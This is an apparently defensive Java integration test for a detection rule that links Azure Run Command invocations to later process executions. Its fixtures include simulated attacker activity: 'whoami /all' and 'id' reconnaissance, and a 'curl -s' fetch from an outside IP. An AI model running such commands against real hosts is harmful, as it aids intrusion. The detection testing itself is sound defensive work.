package io.github.rcdetect.rules.r1;

import static io.github.rcdetect.testing.Records.at;
import static io.github.rcdetect.testing.Records.batch;
import static io.github.rcdetect.testing.Records.line;
import static io.github.rcdetect.testing.Records.linuxExec;
import static io.github.rcdetect.testing.Records.runCommand;
import static io.github.rcdetect.testing.Records.windowsChild;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.github.rcdetect.testing.DetectionRun;
import io.github.rcdetect.testing.Records;
import io.github.rcdetect.testing.TestClusters;

import org.apache.flink.test.junit5.MiniClusterExtension;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.TimeUnit;

/** R1 end to end on a MiniCluster: every edge of docs/spec.md, section 4, each asserting the exact alerts. */
@Timeout(value = 2, unit = TimeUnit.MINUTES)
class RunCommandCorrelationITCase {

    @RegisterExtension
    static final MiniClusterExtension CLUSTER = TestClusters.extensionWithSlots(2);

    @TempDir
    Path directory;

    /** The fields of an R1 alert the tests compare: host, invocation, processes. */
    record R1(String host, String invokedAt, String correlationId, List<String> commandLines, int processCount) {
        static R1 of(JsonNode alert) {
            List<String> commandLines = new ArrayList<>();
            alert.at("/process/command_line").forEach(node -> commandLines.add(node.asText()));
            JsonNode correlation = alert.at("/azure_runcommand/correlation_id");
            return new R1(
                    alert.at("/host/name").asText(),
                    alert.at("/azure_runcommand/invoked_at").asText(),
                    correlation.isMissingNode() ? null : correlation.asText(),
                    commandLines,
                    alert.at("/azure_runcommand/process_count").asInt());
        }
    }

    private List<R1> r1(List<ObjectNode> activity, List<ObjectNode> processes) throws Exception {
        DetectionRun.Result result = new DetectionRun(directory)
                .run(
                        activity.stream().map(Records::line).toList(),
                        processes.stream().map(Records::line).toList());
        assertThat(result.deadLetters()).isEmpty();
        return result.alerts("R1").stream().map(R1::of).toList();
    }

    @Test
    void pairAcrossATwoMinuteBucketEdgeCorrelates() throws Exception {
        // 10:01:59 and 10:02:01 fall in different 2-minute buckets of the Elastic rule.
        assertThat(r1(
                        List.of(runCommand(at(119), "VM1", "c1", "Start")),
                        List.of(windowsChild(at(121), "vm1", "whoami.exe", "whoami /all"))))
                .containsExactly(new R1("vm1", "2026-03-10T10:01:59.000Z", "c1", List.of("whoami /all"), 1));
    }

    @Test
    void processExactly120SecondsAfterCorrelatesAndOneMillisecondLaterDoesNot() throws Exception {
        assertThat(r1(
                        List.of(runCommand(at(0), "VM1", "c1", "Start")),
                        List.of(
                                windowsChild(at(120), "vm1", "a.exe", "a"),
                                windowsChild(at(120.001), "vm1", "b.exe", "b"))))
                .containsExactly(new R1("vm1", "2026-03-10T10:00:00.000Z", "c1", List.of("a"), 1));
        assertThat(r1(
                        List.of(runCommand(at(0), "VM1", "c1", "Start")),
                        List.of(windowsChild(at(120.001), "vm1", "b.exe", "b"))))
                .isEmpty();
    }

    @Test
    void processAtTheVeryTimeOfTheRunCommandCorrelates() throws Exception {
        assertThat(r1(
                        List.of(runCommand(at(5), "VM1", "c1", "Start")),
                        List.of(windowsChild(at(5), "vm1", "a.exe", "a"))))
                .containsExactly(new R1("vm1", "2026-03-10T10:00:05.000Z", "c1", List.of("a"), 1));
    }

    @Test
    void matchingProcessBeforeTheRunCommandDoesNotHideTheOnesAfterIt() throws Exception {
        assertThat(r1(
                        List.of(runCommand(at(30), "VM1", "c1", "Start")),
                        List.of(
                                windowsChild(at(0), "vm1", "early.exe", "early"),
                                windowsChild(at(40), "vm1", "late.exe", "late"))))
                .containsExactly(new R1("vm1", "2026-03-10T10:00:30.000Z", "c1", List.of("late"), 1));
    }

    @Test
    void failedRunCommandIsNoInvocation() throws Exception {
        assertThat(r1(
                        List.of(runCommand(at(0), "VM1", "c1", "Failure")),
                        List.of(windowsChild(at(10), "vm1", "a.exe", "a"))))
                .isEmpty();
    }

    @Test
    void startRecordOfAnInvocationThatLaterFailedStillCounts() throws Exception {
        assertThat(r1(
                        List.of(runCommand(at(0), "VM1", "c1", "Start"), runCommand(at(50), "VM1", "c1", "Failure")),
                        List.of(windowsChild(at(10), "vm1", "a.exe", "a"))))
                .containsExactly(new R1("vm1", "2026-03-10T10:00:00.000Z", "c1", List.of("a"), 1));
    }

    @Test
    void threeRecordsOfOneInvocationGiveOneAlertAtTheEarliest() throws Exception {
        // The Succeeded record at +90 s is not a new invocation: the process at +150 s is 150 s after the
        // invocation (too late), though only 60 s after that record.
        assertThat(r1(
                        List.of(
                                runCommand(at(90), "VM1", "c1", "Success"),
                                runCommand(at(1), "VM1", "c1", "Accept"),
                                runCommand(at(0), "VM1", "c1", "Start")),
                        List.of(
                                windowsChild(at(5), "vm1", "a.exe", "a"),
                                windowsChild(at(100), "vm1", "b.exe", "b"),
                                windowsChild(at(150), "vm1", "c.exe", "c"))))
                .containsExactly(new R1("vm1", "2026-03-10T10:00:00.000Z", "c1", List.of("a", "b"), 2));
    }

    @Test
    void correlationIdsThatDifferOnlyInCaseAreOneInvocation() throws Exception {
        assertThat(r1(
                        List.of(
                                runCommand(at(0), "VM1", "6F1D2C3B-AAAA", "Start"),
                                runCommand(at(50), "VM1", "6f1d2c3b-aaaa", "Success")),
                        List.of(windowsChild(at(10), "vm1", "a.exe", "a"), windowsChild(at(60), "vm1", "b.exe", "b"))))
                .containsExactly(new R1("vm1", "2026-03-10T10:00:00.000Z", "6F1D2C3B-AAAA", List.of("a", "b"), 2));
    }

    @Test
    void eventHubBatchOfOneInvocationGivesOneAlert() throws Exception {
        assertThat(r1(
                        List.of(batch(
                                runCommand(at(0), "VM1", "c1", "Start"),
                                runCommand(at(0.4), "VM1", "c1", "Accept"),
                                runCommand(at(30), "VM1", "c1", "Success"))),
                        List.of(windowsChild(at(31), "vm1", "a.exe", "a"))))
                .containsExactly(new R1("vm1", "2026-03-10T10:00:00.000Z", "c1", List.of("a"), 1));
    }

    @Test
    void overlappingInvocationsEachGetTheProcessesAfterThemUntilTheNextOne() throws Exception {
        assertThat(r1(
                        List.of(
                                runCommand(at(0), "VM1", "c1", "Start"),
                                runCommand(at(60), "VM1", "c2", "Start"),
                                runCommand(at(65), "VM1", "c1", "Success")),
                        List.of(
                                windowsChild(at(30), "vm1", "a.exe", "a"),
                                windowsChild(at(70), "vm1", "b.exe", "b"),
                                windowsChild(at(130), "vm1", "c.exe", "c"))))
                .containsExactly(
                        new R1("vm1", "2026-03-10T10:00:00.000Z", "c1", List.of("a"), 1),
                        new R1("vm1", "2026-03-10T10:01:00.000Z", "c2", List.of("b", "c"), 2));
    }

    @Test
    void invocationWithoutProcessesEmitsNothingAndDoesNotDisturbTheNext() throws Exception {
        assertThat(r1(
                        List.of(runCommand(at(0), "VM1", "c1", "Start"), runCommand(at(10), "VM1", "c2", "Start")),
                        List.of(windowsChild(at(20), "vm1", "a.exe", "a"))))
                .containsExactly(new R1("vm1", "2026-03-10T10:00:10.000Z", "c2", List.of("a"), 1));
    }

    @Test
    void recordsWithoutCorrelationIdAreEachTheirOwnInvocation() throws Exception {
        assertThat(r1(
                        List.of(runCommand(at(0), "VM1", null, "Start"), runCommand(at(10), "VM1", null, "Start")),
                        List.of(windowsChild(at(5), "vm1", "a.exe", "a"), windowsChild(at(20), "vm1", "b.exe", "b"))))
                .containsExactly(
                        new R1("vm1", "2026-03-10T10:00:00.000Z", null, List.of("a"), 1),
                        new R1("vm1", "2026-03-10T10:00:10.000Z", null, List.of("b"), 1));
    }

    @Test
    void processesOnOtherHostsDoNotCorrelate() throws Exception {
        assertThat(r1(
                        List.of(runCommand(at(0), "VM1", "c1", "Start"), runCommand(at(0), "VM2", "c2", "Start")),
                        List.of(
                                windowsChild(at(10), "vm2", "b.exe", "b"),
                                windowsChild(at(20), "vm3", "c.exe", "c"),
                                windowsChild(at(30), "vm1", "a.exe", "a"))))
                .containsExactly(
                        new R1("vm1", "2026-03-10T10:00:00.000Z", "c1", List.of("a"), 1),
                        new R1("vm2", "2026-03-10T10:00:00.000Z", "c2", List.of("b"), 1));
    }

    @Test
    void hostKeysCompareCaseInsensitively() throws Exception {
        assertThat(r1(
                        List.of(runCommand(at(0), "Web-VM-01", "c1", "Start")),
                        List.of(
                                windowsChild(at(10), "WEB-VM-01", "a.exe", "a"),
                                windowsChild(at(20), "web-vm-01", "b.exe", "b"))))
                .containsExactly(new R1("web-vm-01", "2026-03-10T10:00:00.000Z", "c1", List.of("a", "b"), 2));
    }

    @Test
    void linuxExecCorrelatesButForkAndConhostDoNot() throws Exception {
        ObjectNode fork = linuxExec(at(12), "lnx1", "curl", "curl -s http://198.51.100.9/x");
        fork.with("event").put("action", "fork");
        assertThat(r1(
                        List.of(runCommand(at(0), "LNX1", "c1", "Start"), runCommand(at(0), "WIN1", "c2", "Start")),
                        List.of(
                                linuxExec(at(10), "lnx1", "id", "id"),
                                fork,
                                windowsChild(
                                        at(11),
                                        "win1",
                                        "conhost.exe",
                                        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
                                windowsChild(at(12), "win1", "hostname.exe", "hostname"))))
                .containsExactly(
                        new R1("lnx1", "2026-03-10T10:00:00.000Z", "c1", List.of("id"), 1),
                        new R1("win1", "2026-03-10T10:00:00.000Z", "c2", List.of("hostname"), 1));
    }

    @Test
    void alertCarriesTheCallerAndEverySourceEvent() throws Exception {
        DetectionRun.Result result = new DetectionRun(directory)
                .run(
                        List.of(
                                line(runCommand(at(0), "VM1", "c1", "Start")),
                                line(runCommand(at(1), "VM1", "c1", "Accept"))),
                        List.of(line(windowsChild(at(2.5), "vm1", "a.exe", "a"))));
        ObjectNode alert = result.alerts("R1").get(0);
        assertThat(alert.at("/@timestamp").asText()).isEqualTo("2026-03-10T10:00:00.000Z");
        assertThat(alert.at("/event/kind").asText()).isEqualTo("alert");
        assertThat(alert.at("/rule/name").asText()).isEqualTo("Azure Run Command Correlated with Process Execution");
        assertThat(alert.at("/azure_runcommand/first_process_at").asText()).isEqualTo("2026-03-10T10:00:02.500Z");
        assertThat(alert.at("/azure_runcommand/delay_seconds").asDouble()).isEqualTo(2.5);
        assertThat(alert.at("/user/email").asText()).isEqualTo("mallory@contoso.com");
        assertThat(alert.at("/source/ip").asText()).isEqualTo("203.0.113.7");
        assertThat(alert.at("/azure/activitylogs/tenant_id").asText())
                .isEqualTo("aa40685b-417d-4664-b4ec-8f7640719adb");
        assertThat(alert.at("/azure/activitylogs/identity/authorization/evidence/principal_id")
                        .asText())
                .isEqualTo("ee4d999c57f24213adac6192582b8649");
        assertThat(alert.at("/azure/subscription_id").asText()).isEqualTo("12CABCB4-86E8-404F-A3D2-1DC9982F45CA");
        assertThat(alert.at("/azure_runcommand/source_events").toString())
                .isEqualTo("[{\"stream\":\"activity\",\"@timestamp\":\"2026-03-10T10:00:00.000Z\",\"file\":\""
                        + directory.resolve("activity.ndjson")
                        + "\",\"line\":1},"
                        + "{\"stream\":\"activity\",\"@timestamp\":\"2026-03-10T10:00:01.000Z\",\"file\":\""
                        + directory.resolve("activity.ndjson")
                        + "\",\"line\":2},"
                        + "{\"stream\":\"process\",\"@timestamp\":\"2026-03-10T10:00:02.500Z\","
                        + "\"event_id\":\"ev-vm1-2026-03-10T10:00:02.500Z-a.exe\",\"file\":\""
                        + directory.resolve("process.ndjson")
                        + "\",\"line\":1}]");
    }
}
